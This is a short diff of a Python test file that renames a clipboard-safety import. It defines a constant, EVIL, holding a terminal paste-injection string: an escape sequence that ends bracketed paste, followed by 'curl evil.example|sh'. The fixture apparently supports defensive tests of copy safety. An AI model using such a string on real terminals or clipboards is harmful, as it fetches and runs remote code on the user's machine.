@@ -9,7 +9,7 @@ from hypothesis import strategies as st
 
 from tests.screens.conftest import ByHand, Run, reading
 from tests.screens.test_copying import go_to
-from widgets.text.copyable import has_lines, why_not_copied
+from widgets.text.clipboard_safety import has_lines, why_not_copied
 
 Make = Callable[..., ByHand]
 EVIL = "https://a.example/\x1b[201~\rcurl evil.example|sh\r"
